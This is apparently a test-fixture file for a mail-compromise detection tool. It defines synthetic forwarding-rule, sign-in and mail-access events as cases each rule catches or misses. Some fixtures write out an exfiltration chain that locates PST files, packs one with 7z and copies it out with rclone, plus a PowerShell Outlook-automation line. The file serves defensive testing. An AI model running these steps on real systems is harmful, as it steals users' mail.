import { identifierHash } from '#analysis/observe/text-hash.ts';
import { evidenceIdOf, fileStep, type FactRecord, type ForwardingObservation, type MessageTrace, type RecordId } from '#model/index.ts';
import {
  changeEvent,
  eventRecord,
  fileEvent,
  scriptBlock,
  started,
  timeAt,
  type EventParts,
  type EventRecord,
} from '#test/support/event-builder.ts';
import { actionTo, ruleRecord, smtpTarget } from '#test/support/fact-builder.ts';

/** What a case holds, as far as a test needs it. */
export interface JoinedCase {
  readonly facts: readonly FactRecord[];
  readonly observations?: readonly ForwardingObservation[];
  readonly traces?: readonly MessageTrace[];
}

/** Cases in which a rule finds one thing, and near misses in which it finds none. The own domain is not given. */
export interface JoinedCases {
  readonly fires: Readonly<Record<string, JoinedCase>>;
  readonly misses: Readonly<Record<string, JoinedCase>>;
}

const sid = 'S-1-5-21-1-2-3-1104';
const outside = 'x@outside.example';
let next = 1_000;
// Every event of a case is a record of its own.
const numbered = (): { readonly number: number } => ({ number: (next += 1) });

const forwarding = (
  state: 'set' | 'cleared' | 'changed',
  destinations: readonly string[],
  at: string,
  parts: EventParts = {},
): EventRecord =>
  changeEvent(
    'forwarding-change',
    { what: 'mailbox-forwarding', state, of: 'ann@firm.example', destinations },
    { operation: 'Set-Mailbox', at, ...numbered(), ...parts },
  );
const inboxRule = (parts: Parameters<typeof changeEvent>[1], at = '2026-03-14 09:00:00', event: EventParts = {}): EventRecord =>
  changeEvent(
    'rule-change',
    { name: 'Archive', of: 'ann@firm.example', ...parts },
    { operation: 'New-InboxRule', at, ...numbered(), ...event },
  );
const read = (at: string, parts: EventParts = {}): EventRecord =>
  eventRecord('mail-access', {
    at,
    strength: 'OPENED',
    operation: 'MailItemsAccessed',
    account: 'ann@firm.example',
    actor: 'ann@firm.example',
    address: '192.0.2.1',
    client: 'Client=OWA;Action=ViaProxy',
    ...numbered(),
    ...parts,
  });
const signIn = (at: string, address: string, parts: EventParts = {}): EventRecord =>
  eventRecord('sign-in', {
    at,
    strength: 'LOGGED ON',
    operation: 'UserLoggedIn',
    account: 'ann@firm.example',
    actor: 'ann@firm.example',
    address,
    ...numbered(),
    ...parts,
  });
const onHost = (at: string, event: (parts: EventParts) => EventRecord): EventRecord =>
  event({ at, host: 'PC7', actor: 'FIRM\\ann', ...numbered() });

/** An artifact of forwarding in a message. */
export function observed(destination: string, at: string, parts: Partial<ForwardingObservation> = {}): ForwardingObservation {
  const recordId = (next += 1).toString(16).padStart(32, 'a') as RecordId;
  return {
    recordId,
    evidenceId: evidenceIdOf(2),
    mailbox: 'ann',
    artifact: 'header X-MS-Exchange-ForwardingLoop',
    mechanism: 'mailbox-setting',
    direction: 'out',
    agency: 'automatic',
    because: 'Exchange adds it.',
    sources: ['ann@firm.example'],
    destinations: [destination],
    time: timeAt(at),
    citations: [
      {
        recordId,
        evidenceId: evidenceIdOf(2),
        locator: [fileStep('ann.pst')],
        field: 'header X',
        excerpt: 'X: y',
        range: null,
        headerIndex: 3,
      },
    ],
    ...parts,
  };
}

/** A message of the case by its identifier. */
export function traced(messageId: string): MessageTrace {
  return {
    recordId: (next += 1).toString(16).padStart(32, 'b') as RecordId,
    locator: [fileStep('ann.pst')],
    mailbox: 'ann.pst',
    place: 'received',
    time: null,
    from: 'ben@other.example',
    to: ['ann@firm.example'],
    subject: 'Offer',
    id: identifierHash(messageId),
    refs: [],
    thread: null,
    body: null,
    marks: [],
  };
}

const days = (count: number): string => `2026-03-${String(count).padStart(2, '0')} 10:00:00`;
const thief = [
  onHost('2026-03-14 09:00:00', (parts) => started('cmd.exe /c dir /s /b C:\\*.pst', 'cmd.exe', parts)),
  onHost('2026-03-14 09:10:00', (parts) => fileEvent('file-open', 'C:\\Users\\ann\\ann.pst', 'C:\\Tools\\7z.exe', parts)),
  onHost('2026-03-14 09:10:01', (parts) => started('7z.exe a C:\\x.7z C:\\Users\\ann\\ann.pst', 'C:\\Tools\\7z.exe', parts)),
  onHost('2026-03-14 09:30:00', (parts) => started('rclone.exe copy C:\\x.7z remote:', 'C:\\Tools\\rclone.exe', parts)),
];

/** The cases by rule identifier. */
export const joinedCases: Readonly<Record<string, JoinedCases>> = {
  'access.change.mailbox-forwarding': {
    fires: {
      'set and not taken back': { facts: [forwarding('set', [outside], '2026-03-14 09:00:00')] },
      'set and cleared: a closed time': {
        facts: [forwarding('set', [outside], '2026-03-14 09:00:00'), forwarding('cleared', [], '2026-03-20 10:00:00')],
      },
      'the same twice, in two exports': {
        facts: [
          forwarding('set', [outside], '2026-03-14 09:00:00', { sourceId: '9cf2a1f7-90bc-494b-2784-08db5c691133' }),
          forwarding('set', [outside], '2026-03-14 09:00:00', { sourceId: '9cf2a1f7-90bc-494b-2784-08db5c691133' }),
        ],
      },
      'a destination whose place is not known': { facts: [forwarding('set', ['/o=firm/cn=x'], '2026-03-14 09:00:00')] },
    },
    misses: {
      'within the organisation': { facts: [forwarding('set', ['ben@sales.firm.example'], '2026-03-14 09:00:00')] },
      'an attempt that failed': { facts: [forwarding('set', [outside], '2026-03-14 09:00:00', { strength: 'ATTEMPTED' })] },
      'set to nothing': { facts: [forwarding('changed', [], '2026-03-14 09:00:00')] },
    },
  },
  'access.change.inbox-rule-forwards': {
    fires: {
      forwards: { facts: [inboxRule({ destinations: [outside] })] },
      'and was removed': { facts: [inboxRule({ destinations: [outside] }), inboxRule({ state: 'removed' }, '2026-03-15 09:00:00')] },
      'and was removed by its number': {
        facts: [
          inboxRule({ id: '3345287221547630593', destinations: [outside] }),
          inboxRule({ id: '3345287221547630593', name: '3345287221547630593', state: 'removed' }, '2026-03-15 09:00:00'),
        ],
      },
      'without a name, while another without a name was removed': {
        facts: [
          inboxRule({ id: '11', name: '', destinations: [outside] }),
          inboxRule({ id: '12', name: '', state: 'removed' }, '2026-03-15 09:00:00'),
        ],
      },
      'and was emptied': { facts: [inboxRule({ destinations: [outside] }), inboxRule({ state: 'cleared' }, '2026-03-15 09:00:00')] },
      'and was emptied of the only ones that it had': {
        facts: [
          inboxRule({ destinations: [outside], by: ['RedirectTo'] }),
          inboxRule({ state: 'cleared', by: ['ForwardTo', 'RedirectTo'] }, '2026-03-15 09:00:00'),
        ],
      },
      'and was emptied of others than it had': {
        facts: [
          inboxRule({ destinations: [outside], by: ['RedirectTo'] }),
          inboxRule({ state: 'cleared', by: ['ForwardTo'] }, '2026-03-15 09:00:00'),
        ],
      },
      'and was emptied in part': {
        facts: [
          inboxRule({ destinations: [outside], by: ['ForwardTo', 'RedirectTo'] }),
          inboxRule({ state: 'cleared', by: ['ForwardTo'] }, '2026-03-15 09:00:00'),
        ],
      },
      'and was emptied one after the other': {
        facts: [
          inboxRule({ destinations: [outside], by: ['ForwardTo', 'RedirectTo'] }),
          inboxRule({ state: 'cleared', by: ['ForwardTo'] }, '2026-03-15 09:00:00'),
          inboxRule({ state: 'cleared', by: ['RedirectTo'] }, '2026-03-16 09:00:00'),
        ],
      },
    },
    misses: {
      'moves only': { facts: [inboxRule({ actions: ['move Projects'] })] },
      'to a domain that is named alike is outside, this one is not': { facts: [inboxRule({ destinations: ['ben@firm.example'] })] },
    },
  },
  'access.change.transport-rule-copies': {
    fires: {
      'a blind copy': {
        facts: [
          changeEvent(
            'transport-change',
            { what: 'transport-rule', name: '.', destinations: [outside] },
            { operation: 'New-TransportRule' },
          ),
        ],
      },
    },
    misses: { 'a disclaimer': { facts: [changeEvent('transport-change', { what: 'transport-rule', name: 'Disclaimer' })] } },
  },
  'access.change.forwarding-inside': {
    fires: { 'a subdomain': { facts: [forwarding('set', ['ben@sales.firm.example'], '2026-03-14 09:00:00')] } },
    misses: { 'a domain that begins alike': { facts: [forwarding('set', ['ben@firm.example.net'], '2026-03-14 09:00:00')] } },
  },
  'access.change.forwarding-cleared': {
    fires: { 'not known to be set': { facts: [forwarding('cleared', [], '2026-03-14 09:00:00')] } },
    misses: {
      'known to be set': { facts: [forwarding('cleared', [], '2026-03-20 10:00:00'), forwarding('set', [outside], '2026-03-14 09:00:00')] },
      'a rule that forwarded nobody': { facts: [inboxRule({ state: 'removed' })] },
    },
  },
  'access.change.too-many': {
    fires: {
      'more than are kept': {
        facts: Array.from({ length: 10_001 }, (_, index) => forwarding('changed', [], '2026-03-14 09:00:00', { number: 50_000 + index })),
      },
    },
    misses: { 'as many as are kept': { facts: [forwarding('changed', [], '2026-03-14 09:00:00')] } },
  },
  'access.change.shared-destination': {
    fires: {
      'two mailboxes': {
        facts: [
          inboxRule({ destinations: [outside] }),
          inboxRule({ destinations: ['X@Outside.example'], of: 'ben@firm.example' }, '2026-03-15 09:00:00'),
        ],
      },
      'a month apart, low': {
        facts: [
          inboxRule({ destinations: [outside] }),
          inboxRule({ destinations: [outside], of: 'ben@firm.example' }, '2026-04-15 09:00:00'),
        ],
      },
      'within the house, low': {
        facts: [
          inboxRule({ destinations: ['tickets@firm.example'] }),
          inboxRule({ destinations: ['tickets@firm.example'], of: 'ben@firm.example' }, '2026-03-15 09:00:00'),
        ],
      },
    },
    misses: {
      'one mailbox twice': { facts: [inboxRule({ destinations: [outside] }), forwarding('set', [outside], '2026-03-15 09:00:00')] },
    },
  },
  'access.change.rule-of-store': {
    fires: {
      'same name and destination': {
        facts: [
          ruleRecord({ name: 'archive', actions: [actionTo('forward', [smtpTarget(outside)])] }),
          inboxRule({ destinations: [outside] }),
        ],
      },
      'same name, no destination': {
        facts: [ruleRecord({ name: 'Archive', actions: [actionTo('delete')] }), inboxRule({ actions: ['delete'] })],
      },
    },
    misses: {
      'another destination': {
        facts: [
          ruleRecord({ name: 'Archive', actions: [actionTo('forward', [smtpTarget('y@outside.example')])] }),
          inboxRule({ destinations: [outside] }),
        ],
      },
      'another owner': {
        facts: [
          ruleRecord({ name: 'Archive', owner: 'ben@firm.example', actions: [actionTo('forward', [smtpTarget(outside)])] }),
          inboxRule({ destinations: [outside] }),
        ],
      },
      'a sign as name, no destination': {
        facts: [ruleRecord({ name: '.', actions: [actionTo('delete')] }), inboxRule({ name: '.', actions: ['delete'] })],
      },
    },
  },
  'access.change.forwarding-seen-in-mail': {
    fires: {
      'a header names the destination': {
        facts: [forwarding('set', [outside], '2026-03-14 09:00:00')],
        observations: [observed(outside, '2026-03-15 08:00:00')],
      },
      'within the house, low': {
        facts: [forwarding('set', ['ben@firm.example'], '2026-03-14 09:00:00')],
        observations: [observed('ben@firm.example', '2026-03-15 08:00:00')],
      },
    },
    misses: {
      'another destination': {
        facts: [forwarding('set', [outside], '2026-03-14 09:00:00')],
        observations: [observed('y@outside.example', '2026-03-15 08:00:00')],
      },
      'the event itself': {
        facts: [forwarding('set', [outside], '2026-03-14 09:00:00')],
        observations: [observed(outside, '2026-03-14 09:00:00', { artifact: 'event mailbox-forwarding set' })],
      },
      'taken back': {
        facts: [forwarding('cleared', [outside], '2026-03-14 09:00:00')],
        observations: [observed(outside, '2026-03-15 08:00:00')],
      },
    },
  },
  'access.cloud.new-address-then-mail': {
    fires: {
      'after two weeks at another': {
        facts: [
          signIn(days(1), '192.0.2.1'),
          signIn(days(15), '198.51.100.9'),
          read('2026-03-15 10:30:00', { address: '198.51.100.9:5123' }),
        ],
      },
    },
    misses: {
      'without access': { facts: [signIn(days(1), '192.0.2.1'), signIn(days(15), '198.51.100.9')] },
      'access from the old address': {
        facts: [signIn(days(1), '192.0.2.1'), signIn(days(15), '198.51.100.9'), read('2026-03-15 10:30:00')],
      },
      'nothing to compare with': { facts: [signIn(days(15), '198.51.100.9'), read('2026-03-15 10:30:00', { address: '198.51.100.9' })] },
      'a sign-in that failed': {
        facts: [
          signIn(days(1), '192.0.2.1'),
          signIn(days(15), '198.51.100.9', { strength: 'ATTEMPTED' }),
          read('2026-03-15 10:30:00', { address: '198.51.100.9' }),
        ],
      },
    },
  },
  'access.cloud.legacy-then-mail': {
    fires: { 'by IMAP': { facts: [signIn(days(1), '192.0.2.1', { facts: { ClientAppUsed: 'IMAP4' } }), read('2026-03-01 11:00:00')] } },
    misses: {
      'by a browser': { facts: [signIn(days(1), '192.0.2.1', { facts: { ClientAppUsed: 'Browser' } }), read('2026-03-01 11:00:00')] },
      'access before': { facts: [signIn(days(1), '192.0.2.1', { facts: { ClientAppUsed: 'IMAP4' } }), read('2026-03-01 09:00:00')] },
    },
  },
  'access.cloud.new-client': {
    fires: {
      'after two weeks': { facts: [...week(), read(days(20), { client: 'python-requests/2.31' })] },
      'a program of owners, low': { facts: [...week({ client: 'Client=MSExchangeRPC' }), read(days(20))] },
    },
    misses: {
      'after two weeks with a single day to compare with': { facts: [read(days(1)), read(days(20), { client: 'python-requests/2.31' })] },
      'within the first days of the log': {
        facts: [...week({ client: 'Client=MSExchangeRPC' }), read(days(8)), read(days(20), { client: 'Client=MSExchangeRPC' })],
      },
      'at the beginning': { facts: [read(days(1)), read(days(2), { client: 'python-requests/2.31' })] },
      'an application of Microsoft': {
        facts: [...week(), read(days(20), { client: 'Client=Outlook', facts: { AppId: '27922004-5251-4030-b22d-91ecd9a37ea4' } })],
      },
      'another version of the client': { facts: [...week(), read(days(20), { client: 'Client=OWA;Action=Other' })] },
    },
  },
  'access.cloud.many-mailboxes-by-application': {
    fires: { 'six in ten minutes': { facts: boxes(6, 'app-1', '') } },
    misses: { five: { facts: boxes(5, 'app-1', '') }, 'the web page': { facts: boxes(6, '00000002-0000-0ff1-ce00-000000000000', '') } },
  },
  'access.cloud.many-mailboxes-by-actor': {
    fires: { 'two others': { facts: boxes(2, '', 'eve@firm.example') } },
    misses: {
      'one other': { facts: boxes(1, '', 'eve@firm.example') },
      'its own under two names': { facts: [read(days(1), { actor: 'FIRM\\ann' }), read(days(1))] },
    },
  },
  'access.cloud.volume': {
    fires: {
      'a hundred in an hour': {
        facts: [read(days(1), { facts: { OperationCount: 60 } }), read('2026-03-01 10:30:00', { facts: { OperationCount: '40' } })],
      },
      'far more than in other hours': { facts: [...hours(8, 2), read(days(9), { facts: { OperationCount: 30 } })] },
    },
    misses: {
      'folders that were opened and synchronised, which name no items': {
        facts: [
          ...Array.from({ length: 60 }, () =>
            read(days(1), { action: 'folder-access', operation: 'FolderBind', facts: { OperationCount: 2 } }),
          ),
          ...Array.from({ length: 60 }, () => read(days(1), { action: 'mail-sync', facts: { OperationCount: 2 } })),
        ],
      },
      'spread over two hours': {
        facts: [read(days(1), { facts: { OperationCount: 60 } }), read('2026-03-01 11:30:00', { facts: { OperationCount: 40 } })],
      },
      'as much as in other hours': { facts: hours(9, 30) },
      'a copy of the same event': {
        facts: [1, 2].map(() => read(days(1), { facts: { OperationCount: 60 }, sourceId: 'bad847e3-dc08-4bc6-b0cb-030f3a8b9733' })),
      },
    },
  },
  'access.cloud.not-recorded': {
    fires: {
      throttled: {
        facts: [read(days(1), { facts: { IsThrottled: 'True' } }), read('2026-03-01 20:00:00', { facts: { IsThrottled: true } })],
      },
    },
    misses: { 'not throttled': { facts: [read(days(1), { facts: { IsThrottled: 'False' } })] } },
  },
  'access.cloud.messages-of-case': {
    fires: {
      'one of two': {
        facts: [read(days(1), { messageIds: ['<a@firm.example>', '<b@firm.example>'] })],
        traces: [traced('<A@firm.example>')],
      },
      'by a delivery, which opens nothing': {
        facts: [
          {
            ...delivered(outside, 'ann@firm.example'),
            claimed: { ...delivered(outside, 'ann@firm.example').claimed, messageIds: ['<a@firm.example>'] },
          },
        ],
        traces: [traced('<a@firm.example>')],
      },
    },
    misses: { 'none of them': { facts: [read(days(1), { messageIds: ['<a@firm.example>'] })], traces: [traced('<c@firm.example>')] } },
  },
  'access.outlook.automated-by-script': {
    fires: {
      'within a minute': {
        facts: [
          onHost('2026-03-14 09:00:00', (parts) => started('powershell -File x.ps1', 'powershell.exe', parts)),
          embedded('2026-03-14 09:00:30'),
        ],
      },
    },
    misses: {
      'an hour later': {
        facts: [
          onHost('2026-03-14 08:00:00', (parts) => started('powershell -File x.ps1', 'powershell.exe', parts)),
          embedded('2026-03-14 09:00:30'),
        ],
      },
      'on another machine': {
        facts: [
          started('powershell -File x.ps1', 'powershell.exe', { at: '2026-03-14 09:00:00', host: 'PC8', ...numbered() }),
          embedded('2026-03-14 09:00:30'),
        ],
      },
    },
  },
  'access.file.rule-file-without-client': {
    fires: { 'after its end': { facts: ran('2026-03-14 12:00:00') } },
    misses: { 'while it ran': { facts: ran('2026-03-14 09:30:00') }, 'when nothing was recorded': { facts: ran('2026-03-16 12:00:00') } },
  },
  'access.chain.account': {
    fires: {
      'sign-in, rule, forwarded mail': {
        facts: [signIn('2026-03-14 08:50:00', '192.0.2.1'), inboxRule({ destinations: [outside] })],
        observations: [observed(outside, '2026-03-15 08:00:00')],
      },
      'sign-in, rule, access': {
        facts: [signIn('2026-03-14 08:50:00', '192.0.2.1:1234'), inboxRule({ destinations: [outside] }), read('2026-03-14 09:05:00')],
      },
      'rule, and a store packed on a machine in a session of its own, by an identifier that the sign-in explains': {
        facts: [
          inboxRule({ destinations: [outside] }),
          machineLogon('2026-03-14 09:50:00', '0x2'),
          machineLogon('2026-03-14 07:00:00', '0x1'),
          packed('2026-03-14 10:00:00', { session: '0x2', actor: sid }),
        ],
      },
      'sign-in, rule, delivery of mail of the account to the destination': {
        facts: [signIn('2026-03-14 08:50:00', '192.0.2.1'), inboxRule({ destinations: [outside] }), delivered(outside, 'ann@firm.example')],
      },
    },
    misses: {
      'a rule that files mail': {
        facts: [signIn('2026-03-14 08:50:00', '192.0.2.1'), inboxRule({ actions: ['move Projects'] }), read('2026-03-14 09:05:00')],
      },
      'a delivery of mail of others to the destination': {
        facts: [signIn('2026-03-14 08:50:00', '192.0.2.1'), inboxRule({ destinations: [outside] }), delivered(outside, 'ben@firm.example')],
      },
      'another session on the machine': {
        facts: [
          inboxRule({ destinations: [outside] }),
          machineLogon('2026-03-14 09:50:00', '0x1'),
          packed('2026-03-14 10:00:00', { session: '0x2' }),
        ],
      },
      'an identifier that two names claim': {
        facts: [
          inboxRule({ destinations: [outside] }),
          machineLogon('2026-03-14 09:50:00', '0x2'),
          machineLogon('2026-03-14 09:51:00', '0x3', 'ben'),
          packed('2026-03-14 10:00:00', { session: '0x2', actor: sid }),
        ],
      },
      'a rule and mail before it': {
        facts: [inboxRule({ destinations: [outside] }), signIn('2026-03-14 08:50:00', '192.0.2.1')],
        observations: [observed(outside, '2026-03-13 08:00:00')],
      },
      'from another address': {
        facts: [signIn('2026-03-14 08:50:00', '203.0.113.5'), inboxRule({ destinations: [outside] }), read('2026-03-14 09:05:00')],
      },
      'forwards by hand to the same address': {
        facts: [signIn('2026-03-14 08:50:00', '192.0.2.1'), inboxRule({ destinations: [outside] })],
        observations: [observed(outside, '2026-03-15 08:00:00', { agency: 'manual' })],
      },
      'of two people of one name, around a change that does not say whose it is': {
        facts: [
          signIn('2026-03-14 08:50:00', '192.0.2.1', { account: 'ann@other.example', actor: 'ann@other.example' }),
          inboxRule({ destinations: [outside] }, '2026-03-14 09:00:00', { account: 'ann', actor: 'ann' }),
          read('2026-03-14 09:05:00'),
        ],
      },
      'by an account of the same name elsewhere': {
        facts: [
          signIn('2026-03-14 08:50:00', '192.0.2.1', { account: 'ann@other.example', actor: 'ann@other.example' }),
          inboxRule({ destinations: [outside] }),
          read('2026-03-14 09:05:00'),
        ],
      },
      'by another account': {
        facts: [
          signIn('2026-03-14 08:50:00', '192.0.2.1', { account: 'ben@firm.example', actor: 'ben@firm.example' }),
          inboxRule({ destinations: [outside] }),
          read('2026-03-14 09:05:00'),
        ],
      },
    },
  },
  'access.chain.store': {
    fires: { 'all steps': { facts: thief }, 'three of them': { facts: thief.slice(1) } },
    misses: {
      'two of them': { facts: thief.slice(0, 2) },
      'in another order': {
        facts: [
          onHost('2026-03-14 09:00:00', (parts) => started('7z.exe a C:\\x.7z C:\\Users\\ann\\ann.pst', 'C:\\Tools\\7z.exe', parts)),
          onHost('2026-03-14 09:10:00', (parts) => started('cmd.exe /c dir /s /b C:\\*.pst', 'cmd.exe', parts)),
          onHost('2026-03-14 09:20:00', (parts) => scriptBlock('$o = New-Object -Com Outlook.Application; $o.GetNamespace("MAPI")', parts)),
        ],
      },
      'on two machines': {
        facts: thief.map((event, index) => (index % 2 === 0 ? event : { ...event, claimed: { ...event.claimed, host: 'PC8' } })),
      },
    },
  },
};

function machineLogon(at: string, session: string, name = 'ann'): EventRecord {
  return onHost(at, (parts) =>
    eventRecord('sign-in', {
      ...parts,
      strength: 'LOGGED ON',
      operation: 'An account was successfully logged on (event 4624)',
      actor: `FIRM\\${name}`,
      account: `FIRM\\${name}`,
      session,
      facts: { TargetUserSid: sid, TargetUserName: name },
    }),
  );
}

function packed(at: string, parts: EventParts): EventRecord {
  return onHost(at, (common) => started('7z.exe a C:\\x.7z C:\\Users\\ann\\ann.pst', 'C:\\Tools\\7z.exe', { ...common, ...parts }));
}

function delivered(to: string, sender: string): EventRecord {
  return eventRecord('mail-delivery', {
    at: '2026-03-15 08:00:00',
    ...numbered(),
    strength: 'PRESENT',
    operation: 'delivery',
    account: to,
    object: { kind: 'address', name: to },
    facts: { sender },
  });
}

function boxes(count: number, application: string, actor: string): EventRecord[] {
  return Array.from({ length: count }, (_, index) =>
    read(`2026-03-14 09:0${String(index)}:00`, {
      account: `user${String(index)}@firm.example`,
      actor,
      facts: application === '' ? {} : { AppId: application },
    }),
  );
}

function week(parts: EventParts = {}): EventRecord[] {
  return [1, 2, 3, 4, 5].map((day) => read(days(day), parts));
}

function hours(count: number, items: number): EventRecord[] {
  return Array.from({ length: count }, (_, index) => read(days(index + 1), { facts: { OperationCount: items } }));
}

function embedded(at: string): EventRecord {
  return onHost(at, (parts) => started('"C:\\OUTLOOK.EXE" -Embedding', 'C:\\OUTLOOK.EXE', parts));
}

function ran(writtenAt: string): EventRecord[] {
  const client = (action: 'process-start' | 'process-end', at: string): EventRecord =>
    onHost(at, (parts) =>
      eventRecord(action, { process: { name: '/usr/lib/thunderbird/thunderbird', commandLine: '', id: '42' }, ...parts }),
    );
  return [
    client('process-start', '2026-03-14 09:00:00'),
    client('process-end', '2026-03-14 10:00:00'),
    onHost('2026-03-14 18:00:00', (parts) => started('ls', '/bin/ls', parts)),
    onHost(writtenAt, (parts) => fileEvent('file-write', '/srv/ann/.thunderbird/x/Mail/msgFilterRules.dat', '', parts)),
  ];
}
